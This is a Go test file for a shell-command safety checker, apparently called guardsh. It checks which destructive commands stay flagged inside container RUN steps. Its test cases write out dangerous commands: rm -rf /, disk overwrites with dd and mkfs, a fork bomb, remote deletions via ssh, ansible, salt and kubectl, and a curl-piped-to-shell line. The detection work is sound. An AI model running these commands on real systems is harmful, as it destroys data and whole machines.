package rules

import (
	"slices"
	"strings"
	"testing"

	"github.com/guardsh/guardsh/parse"
)

// imageFindings checks line as a RUN step (image) or as a script file.
func imageFindings(line string, image bool) []Finding {
	res := parse.Commands(line, parse.Options{File: true, Image: image})
	return Match(res, map[string]bool{"dynamic-code": true, "dynamic-command": true})
}

func hasRuleIn(fs []Finding, ids []string) (string, bool) {
	for _, f := range fs {
		if slices.Contains(ids, f.Rule) {
			return f.Rule, true
		}
	}
	return "", false
}

// TestImageTable runs the examples of imageTable: a Match line reports one
// of the entry's rules in a RUN step; a NoMatch line reports none of them
// there, and one of them outside an image (so it tests the table).
func TestImageTable(t *testing.T) {
	seen := map[string]bool{}
	for _, e := range imageTable {
		if e.Why == "" || len(e.Rules) == 0 {
			t.Errorf("entry %v: no rules or no reason", e.Rules)
		}
		if e.Quiet == nil && len(e.NoMatch) > 0 {
			t.Errorf("entry %v: reported always, but has NoMatch lines", e.Rules)
		}
		for _, id := range e.Rules {
			r, ok := Lookup(id)
			if !ok {
				t.Errorf("entry %v: no rule %q", e.Rules, id)
				continue
			}
			if r.Tier == Hardline {
				t.Errorf("entry %v: %s is hardline: hardline shapes stay reported in an image", e.Rules, id)
			}
			if seen[id] {
				t.Errorf("rule %s decided twice", id)
			}
			seen[id] = true
		}
		for _, line := range e.Match {
			if _, ok := hasRuleIn(imageFindings(line, true), e.Rules); !ok {
				t.Errorf("%v: RUN %q: none of them reported in an image: %v", e.Rules, line, imageFindings(line, true))
			}
		}
		for _, line := range e.NoMatch {
			if id, ok := hasRuleIn(imageFindings(line, true), e.Rules); ok {
				t.Errorf("%v: RUN %q: %s reported in an image", e.Rules, line, id)
			}
			if _, ok := hasRuleIn(imageFindings(line, false), e.Rules); !ok {
				t.Errorf("%v: %q: none of them reported outside an image either (the example tests nothing)", e.Rules, line)
			}
		}
	}
}

// TestImageKeeps: what is reported in an image whatever the table says:
// hardline shapes, commands run on another host or in another container.
func TestImageKeeps(t *testing.T) {
	for _, tc := range []struct{ line, rule string }{
		{"rm -rf /", "rm-root"},
		{"rm -rf /usr", "rm-system"},
		{"chmod -R 777 /", "chmod-root"},
		{"dd if=/dev/zero of=/dev/sda", "disk-overwrite"},
		{"find / -name '*.pyc' -delete", "find-delete-root"},
		{":(){ :|:& };:", "fork-bomb"},
		{"ssh deploy@prod 'rm -rf /srv/app/data'", "rm-recursive"},
		{"ssh prod sudo sed -i s/a/b/ /etc/nginx/nginx.conf", "system-config-write"},
		{"sh -c \"ssh prod 'rm -rf /var/lib/app'\"", "rm-recursive"},
		{"eval \"ssh prod 'git reset --hard'\"", "git-reset-hard"},
		{"gcloud compute ssh vm --command 'rm -rf /srv/v'", "rm-recursive"},
		{"vagrant ssh -c 'rm -rf /srv/v'", "rm-recursive"},
		{"ansible all -m shell -a 'rm -rf /srv/v'", "rm-recursive"},
		{"sudo -u app ssh prod 'rm -rf /srv/x'", "rm-recursive"},
		{"ssh prod sh <<'EOS'\nrm -rf /srv/z\nEOS", "rm-recursive"},
		{"curl -s https://x.example/k.sh | ssh prod sh", "remote-code"},
		{"docker -H tcp://10.0.0.1:2375 run -v /srv:/srv alpine rm -rf /srv/data", "rm-recursive"},
		{"ssh -J bastion prod 'rm -rf /srv/a'", "rm-recursive"},
		{"sshpass -p x ssh prod 'rm -rf /srv/b'", "rm-recursive"},
		{"mosh prod -- rm -rf /srv/c", "rm-recursive"},
		{"pssh -h hosts.txt 'rm -rf /srv/d'", "rm-recursive"},
		{"salt '*' cmd.run 'rm -rf /srv/e'", "rm-recursive"},
		{"kubectl debug node/n1 -it --image=busybox -- chroot /host rm -rf /var/lib/kubelet", "rm-recursive"},
		{"ssh prod -- sudo systemctl stop nginx", "service-stop"},
		{"env -i /usr/bin/ssh prod \"rm -rf /srv/f\"", "rm-recursive"},
		{"timeout 30 ssh prod \"git -C /srv/app reset --hard\"", "git-reset-hard"},
		{"xargs -a hosts.txt -I{} ssh {} 'rm -rf /srv/g'", "rm-recursive"},
		{"ssh prod rm -rf /srv/h", "rm-recursive"},
	} {
		fs := imageFindings(tc.line, true)
		if _, ok := hasRuleIn(fs, []string{tc.rule}); !ok {
			t.Errorf("RUN %q: %s not reported in an image: %v", tc.line, tc.rule, fs)
		}
	}
}

// TestImageHardline: a hardline shape in a RUN step is reported as
// dangerous (never "always"), with the image reason; a fork bomb and a
// command run through ssh stay hardline.
func TestImageHardline(t *testing.T) {
	for _, tc := range []struct {
		line, rule string
		tier       Tier
	}{
		{"rm -rf /", "rm-root", Dangerous},
		{"rm -rf /var/log/*", "rm-system", Dangerous},
		{"mkfs.ext4 /dev/sdb1", "mkfs-device", Dangerous},
		{"kill -9 -1", "kill-all", Dangerous},
		{":(){ :|:& };:", "fork-bomb", Hardline},
		{"ssh prod 'rm -rf /'", "rm-root", Hardline},
		{"sh -c \"ssh prod 'rm -rf /'\"", "rm-root", Hardline},
		{"docker run -v /:/host alpine rm -rf /host/etc", "rm-system", Hardline},
	} {
		var got *Finding
		fs := imageFindings(tc.line, true)
		for i := range fs {
			if fs[i].Rule == tc.rule {
				got = &fs[i]
			}
		}
		if got == nil {
			t.Errorf("RUN %q: %s not reported: %v", tc.line, tc.rule, fs)
			continue
		}
		if got.Tier != tc.tier {
			t.Errorf("RUN %q: %s is %v, want %v", tc.line, tc.rule, got.Tier, tc.tier)
		}
		if tc.tier == Dangerous && (!got.NeverPermanent || !strings.HasPrefix(got.Reason, imageSoftReason)) {
			t.Errorf("RUN %q: softened %s: never_permanent %v, reason %q", tc.line, tc.rule, got.NeverPermanent, got.Reason)
		}
	}
}
